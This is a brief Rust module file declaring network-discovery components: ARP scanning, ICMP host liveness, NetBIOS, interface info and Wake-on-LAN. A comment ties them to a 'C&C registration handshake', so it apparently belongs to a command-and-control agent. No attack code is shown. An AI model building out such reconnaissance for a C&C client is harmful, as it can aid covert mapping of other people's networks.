//! Network Discovery (§4.B): ARP table reading, ICMP liveness, hostname
//! resolution, Wake-on-LAN, and the `networkInfo` interface probe consumed
//! by the C&C registration handshake.

pub mod discovery;
pub mod interface;
pub mod netbios;
pub mod wol;

pub use discovery::{is_host_alive, scan_arp};
pub use interface::{derive_network_info, NetworkInfo};
pub use wol::send_magic_packet;
